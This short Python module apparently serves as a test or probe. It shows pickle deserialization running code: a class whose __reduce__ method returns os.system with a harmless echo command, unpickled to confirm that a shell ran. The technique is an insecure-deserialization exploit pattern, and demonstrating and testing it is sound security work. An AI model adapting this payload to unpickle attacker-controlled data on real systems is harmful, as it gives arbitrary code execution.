"""Unpickles an object that starts a program."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("echo done > /tmp/py_pickle",)


def execute(params):
    status = pickle.loads(pickle.dumps(Payload()))
    return {"succeeded": status == 0, "evidence": "a shell ran"}
